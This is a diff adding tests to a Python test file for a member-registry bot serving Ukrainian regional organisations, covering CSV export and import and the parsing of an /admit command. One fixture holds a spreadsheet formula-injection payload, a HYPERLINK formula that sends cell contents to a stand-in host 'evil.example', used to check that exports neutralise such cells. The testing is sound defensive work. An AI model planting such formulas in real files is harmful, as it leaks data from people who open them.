@@ -3,10 +3,18 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from datetime import date
 
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from bot.i18n import build_i18n
 from bot.sandbox.demo import load_demo_data
-from handlers.members import MemberAction, MemberCb
+from handlers.filters import Access
+from handlers.members import AdmitReadingCb, MemberAction, MemberCb
+from handlers.members_csv import export_csv, parse_csv
 from storage.members import Member, MemberFields, MemberStatus
 from storage.repositories import Storage
 from storage.roles import Role
@@ -18,6 +26,7 @@ POLTAVA = "UA-53"
 COORDINATOR = 700  # coordinator of Lviv oblast
 REFUSED = "Ця команда вам недоступна."
 NOT_YOURS = "You can change members only in your regions."
+I18N = build_i18n()
 CONFERENCE = "Всеукраїнська конференція з питань електронної демократії, Чернігів, 23–24 травня"
 
 
@@ -335,3 +344,219 @@ async def test_the_demo_shows_what_the_source_names_and_nothing_more(
     assert CONFERENCE in text
     assert "об’єднує 13 регіонів" in text and "називає лише" in text
     assert all(not member.contact for member in await store.members.all())
+
+
+# ----------------------------------------------------------------------------- hostile CSV
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"Відкрити")',
+    "contact": "+380 00 000 0000",
+    "notes": "@SUM(1+1)",
+    "event_note": "-2+3",
+}
+
+
+async def test_export_guards_formula_cells_and_an_import_reads_them_back(
+    client: BotClient, store: Storage
+) -> None:
+    formulas = await add(
+        store, FORMULAS["name"], LVIV, **{k: v for k, v in FORMULAS.items() if k != "name"}
+    )
+    # Already starting with an apostrophe: must come back with it, not lose it.
+    quoted = await add(store, "'=не формула", LVIV, notes="'звичайний текст")
+    plain = await add(store, "ГО «Відкрите місто»", LVIV)
+    admin = client.as_user(ADMIN_ID, language="en")
+    exported = await export_file(admin)
+    rows = list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
+    by_id = {int(row["id"]): row for row in rows}
+    for column, value in FORMULAS.items():
+        assert by_id[formulas.id][column] == "'" + value, column
+    assert by_id[quoted.id]["name"] == "''=не формула"
+    assert by_id[quoted.id]["notes"] == "'звичайний текст"
+    assert by_id[plain.id]["name"] == "ГО «Відкрите місто»"
+    for row in rows:  # no cell a spreadsheet would run
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+    before = await store.members.all()
+    assert "0 added, 0 updated, 3 unchanged" in await import_file(admin, exported)
+    assert await store.members.all() == before
+
+
+async def test_import_refuses_duplicates_unless_the_row_carries_the_id(
+    client: BotClient, store: Storage
+) -> None:
+    city = await add(store, "ГО «Відкрите місто»", LVIV)
+    user = await coordinator(client, store)
+    before = await store.members.all()
+    duplicates = (
+        "id,name,region_code,status\r\n"
+        ',"го ""Відкрите   місто""",UA-46,candidate\r\n'  # the existing member, without its id
+        ",ГО «Нова»,UA-46,candidate\r\n"  # fine once
+        ",го нова,Львів,admitted\r\n"  # the row above again
+        f"{city.id},ГО «Відкрите місто»,UA-46,suspended\r\n"  # its own id: a change, fine
+    ).encode()
+    report = await import_file(user, duplicates)
+    assert "nothing was changed" in report
+    assert f"Row 2: member №{city.id} has the same name and region" in report
+    assert "Row 4: row 3 has the same name and region" in report
+    assert "Row 3:" not in report and "Row 5:" not in report
+    assert await store.members.all() == before
+
+    # A row with an id renames its member: the name it leaves is free for a new row.
+    renaming = (
+        "id,name,region_code,status\r\n"
+        f"{city.id},ГО «Місто людей»,UA-46,admitted\r\n"
+        ",ГО «Відкрите місто»,UA-46,candidate\r\n"
+    ).encode()
+    assert "1 added, 1 updated" in await import_file(user, renaming)
+    names = sorted(member.name for member in await store.members.all())
+    assert names == ["ГО «Відкрите місто»", "ГО «Місто людей»"]
+
+
+async def test_unreadable_files_get_row_errors_and_old_mac_line_endings_are_read(
+    client: BotClient, store: Storage
+) -> None:
+    user = await coordinator(client, store)
+    header = "id,name,region_code,status\r\n"
+    nul = (header + ",Нова,UA-46,admitted\r\n,Зі\x00значком,UA-46,admitted\r\n").encode()
+    report = await import_file(user, nul)
+    assert "Row 3: the row has control characters" in report and "Row 2:" not in report
+    huge = header + ",Нова,UA-46,admitted\r\n" + ',"' + "я" * 140_000 + '",UA-46,admitted\r\n'
+    report = await import_file(user, huge.encode())
+    assert "Row 3: the row is not valid CSV (field larger than field limit" in report
+    assert await store.members.count() == 0
+    for answer in user.sandbox.sent(user.chat_id):
+        assert "Something went wrong" not in answer.plain_text
+
+    mac = "id,name,region_code,status\r,ГО «Нова»,UA-46,admitted\r,ГО «Друга»,Львів,кандидат\r"
+    assert "2 added, 0 updated" in await import_file(user, mac.encode("utf-8-sig"))
+    assert sorted(m.name for m in await store.members.all()) == ["ГО «Друга»", "ГО «Нова»"]
+
+
+async def test_a_large_import_is_checked_without_stalling_the_bot(
+    client: BotClient, store: Storage
+) -> None:
+    admin = client.as_user(ADMIN_ID, language="en")
+    # 14,000 rows whose region has a typo (the slow, forgiving match) and a bad status: some
+    # 3 s of checking on this machine.
+    rows = [f",Організація номер {n},Львв,чудовий" for n in range(14000)]
+    content = ("id,name,region_code,status\r\n" + "\r\n".join(rows)).encode()
+    assert len(content) < 1_000_000  # the largest file the bot takes
+    gaps: list[float] = []
+    loop = asyncio.get_running_loop()
+
+    async def tick() -> None:
+        last = loop.time()
+        while True:
+            await asyncio.sleep(0.01)
+            now = loop.time()
+            gaps.append(now - last)
+            last = now
+
+    ticker = asyncio.create_task(tick())
+    started = loop.time()
+    try:
+        report = await import_file(admin, content)
+    finally:
+        ticker.cancel()
+    took = loop.time() - started
+    assert "Row 2: unknown status" in report and "…and 13960 more." in report
+    # Checked in a thread: the loop (every other user's answers) never waits for it. (A full
+    # garbage collection, a few tenths of a second in the test process, is the longest wait.)
+    assert max(gaps) < 1.0, (max(gaps), took)
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    texts=st.lists(
+        st.text(alphabet="=+-@'\t\r\n ,;\"«»аб1", max_size=12).filter(
+            lambda text: text == text.strip()
+        ),
+        min_size=4,
+        max_size=4,
+    )
+)
+def test_an_export_reads_back_exactly_whatever_its_cells_start_with(texts: list[str]) -> None:
+    name, contact, notes, event_note = texts
+    member = Member(
+        id=7,
+        name=name or "x",
+        region_code=LVIV,
+        status=MemberStatus.CANDIDATE,
+        since=date(2025, 5, 24),
+        event_note=event_note,
+        event_id=None,
+        contact=contact,
+        notes=notes,
+    )
+    admin = Access(
+        user_id=ADMIN_ID,
+        is_admin=True,
+        editor_regions=frozenset(),
+        coordinator_regions=frozenset(),
+    )
+    with I18N.context(), I18N.use_locale("en"):
+        rows, errors = parse_csv(
+            export_csv([member]).decode("utf-8-sig"), admin, {member.id: member}
+        )
+    assert errors == []
+    assert rows == [
+        MemberFields(
+            id=member.id,
+            name=member.name,
+            region_code=LVIV,
+            status=member.status,
+            since=member.since,
+            contact=contact,
+            notes=notes,
+            event_note=event_note,
+        )
+    ]
+
+
+# ----------------------------------------------------------------------------- /admit, strictly
+
+
+async def test_admit_reads_the_region_strictly_and_keeps_the_whole_name(
+    client: BotClient, store: Storage
+) -> None:
+    user = await coordinator(client, store)
+    [question] = await user.send("/admit Львів ГО «Місто, Люди»")
+    assert "ГО «Місто, Люди»" in question.plain_text
+    await press(user, question.message_id, "Admit")
+    [member] = await store.members.all()
+    assert member.name == "ГО «Місто, Люди»" and member.region_code == LVIV
+
+    for text, name in (
+        ("/admit UA-46 Громада «Львів»", "Громада «Львів»"),
+        ("/admit Львівська область Спілка, Львів", "Спілка, Львів"),
+        ("/admit Lviv, Nova", "Nova"),
+    ):
+        [question] = await user.send(text)
+        assert f"Admit a new member {name} (Lviv)" in question.plain_text, text
+        await press(user, question.message_id, "Cancel")
+    # A typo is not a region here: it gets suggestions, not a guess.
+    [typo] = await user.send("/admit Львв ГО «Нова»")
+    assert "not found" in typo.plain_text and "Lviv" in typo.plain_text
+    assert await store.members.count() == 1
+
+
+async def test_admit_asks_which_reading_when_the_text_reads_two_ways(
+    client: BotClient, store: Storage
+) -> None:
+    user = await coordinator(client, store)
+    # «місто» is a marker the region may take, or the first word of the name.
+    [choice] = await user.send("/admit Львів Місто людей")
+    assert "Where does the region end" in choice.plain_text
+    assert choice.button("«Місто людей»") and choice.button("«людей»")
+    assert await store.members.count() == 0
+    await press(user, choice.message_id, "«Місто людей»")
+    assert "Admit a new member Місто людей (Lviv)" in text_of(user, choice.message_id)
+    await press(user, choice.message_id, "Admit")
+    [member] = await store.members.all()
+    assert member.name == "Місто людей" and member.region_code == LVIV
+    # A crafted reading that the text does not have changes nothing.
+    [choice] = await user.send("/admit Львів Місто мрій")
+    answered = await user.click_data(choice, AdmitReadingCb(words=3).pack())
+    assert "out of date" in str(answered.get("text"))
+    assert await store.members.count() == 1
